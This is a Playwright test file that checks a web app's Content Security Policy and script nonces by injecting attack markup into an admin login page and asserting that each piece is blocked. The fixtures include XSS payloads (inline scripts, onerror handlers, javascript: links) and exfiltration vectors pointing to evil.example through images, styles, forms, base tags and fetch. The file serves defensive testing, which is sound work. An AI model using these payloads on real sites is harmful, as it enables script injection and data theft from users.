import { expect, type Page, test } from '@playwright/test'
import { signedUp } from './api-steps.ts'

// What a page does with an injected script, picture or request. Every other test checks that the pages' own ones work: fixtures.ts
// fails a test at a violation of the policy or a request to another host.

/** Opens a page and collects what its policy blocks. */
async function watched(page: Page, path: string) {
  const alarms: string[] = []
  page.on('dialog', (dialog) => {
    alarms.push(dialog.message())
    void dialog.dismiss()
  })
  await page.addInitScript(() => {
    Object.assign(window, { stopped: [], ran: [] })
    // The test adds `stopped` to the window, so its type does not have it, here and below.
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) =>
      (window as never as { stopped: string[] }).stopped.push(effectiveDirective),
    )
  })
  await page.goto(path)
  const seen = () => page.evaluate(() => ({ ...(window as never as { stopped: string[]; ran: string[] }) }))
  return { alarms, seen: async () => ({ stopped: (await seen()).stopped, ran: (await seen()).ran }) }
}

/** Adds markup to the page, scripts included. */
const inject = (page: Page, html: string) =>
  page.evaluate((text) => {
    document.body.append(document.createRange().createContextualFragment(text))
  }, html)

const attacks = {
  'an inline script': ['<script>ran.push(1)</script>', 'script-src-elem'],
  'a script with a nonce of its own': ['<script nonce="AAAA">ran.push(1)</script>', 'script-src-elem'],
  'a script of another host': ['<script src="https://evil.example/x.js"></script>', 'script-src-elem'],
  'a script as data': ['<script src="data:text/javascript,ran.push(1)"></script>', 'script-src-elem'],
  'a handler in markup': ['<img src="data:," onerror="ran.push(1)">', 'script-src-attr'],
  'a picture that carries data away': ['<img src="https://evil.example/?marks=1">', 'img-src'],
  'a style that reads the page': [
    '<style>body{background:url(https://evil.example)}</style>',
    'style-src-elem',
  ],
  'a style attribute': ['<p style="position:fixed;inset:0">login here</p>', 'style-src-attr'],
  'a frame': ['<iframe src="https://evil.example/"></iframe>', 'frame-src'],
  'a plug-in': ['<object data="https://evil.example/x"></object>', 'object-src'],
  'another base for every link': ['<base href="https://evil.example/">', 'base-uri'],
} as const

test('T40: injected scripts, javascript: links, and forms or calls to another host are blocked', async ({
  page,
}) => {
  const { alarms, seen } = await watched(page, '/admin/login')
  const times = async (directive: string) => (await seen()).stopped.filter((one) => one === directive).length
  for (const [name, [html, directive]] of Object.entries(attacks)) {
    const before = await times(directive)
    await inject(page, html)
    await expect.poll(() => times(directive), name).toBeGreaterThan(before)
    expect((await seen()).ran, name).toEqual([])
  }
  expect(alarms).toEqual([])

  await page.reload()
  await inject(
    page,
    '<a id="x" href="javascript:ran.push(1)">x</a><form id="y" action="https://evil.example/"></form>',
  )
  await page.evaluate(() => document.querySelector<HTMLAnchorElement>('#x')?.click())
  await page.evaluate(() => document.querySelector<HTMLFormElement>('#y')?.submit())
  const call = await page.evaluate(() =>
    fetch('https://evil.example/').then(
      () => 'went',
      () => 'stopped',
    ),
  )
  expect(call).toBe('stopped')
  await expect
    .poll(async () => (await seen()).stopped.sort().join())
    .toMatch(/connect-src.*form-action.*script-src/)
  expect((await seen()).ran).toEqual([])
  expect(await page.evaluate(() => location.pathname)).toBe('/admin/login')
})

test('every page of the framework, also the not-found page, has a new nonce on each of its scripts', async ({
  request,
}) => {
  await signedUp({ request })
  const numbers = new Set<string>()
  for (const path of ['/', '/admin/sign-up', '/admin/dashboard', '/admin/dashboard', '/nowhere']) {
    const answer = await request.get(path)
    const number = /'nonce-([^']+)'/.exec(answer.headers()['content-security-policy'] ?? '')?.[1] ?? 'none'
    const scripts = (await answer.text()).match(/<script\b[^>]*>/g) ?? []
    expect(scripts.length, path).toBeGreaterThan(5)
    for (const script of scripts) expect(script, path).toContain(`nonce="${number}"`)
    numbers.add(number)
  }
  expect(numbers.size).toBe(5)
})

test('no caller chooses the nonce', async ({ request }) => {
  const headers = { 'content-security-policy': "script-src 'nonce-mine'", 'x-nonce': 'mine' }
  const answer = await request.get('/admin/login', { headers })
  expect(await answer.text()).not.toContain('nonce="mine"')
  expect(answer.headers()['content-security-policy']).not.toContain('mine')
})
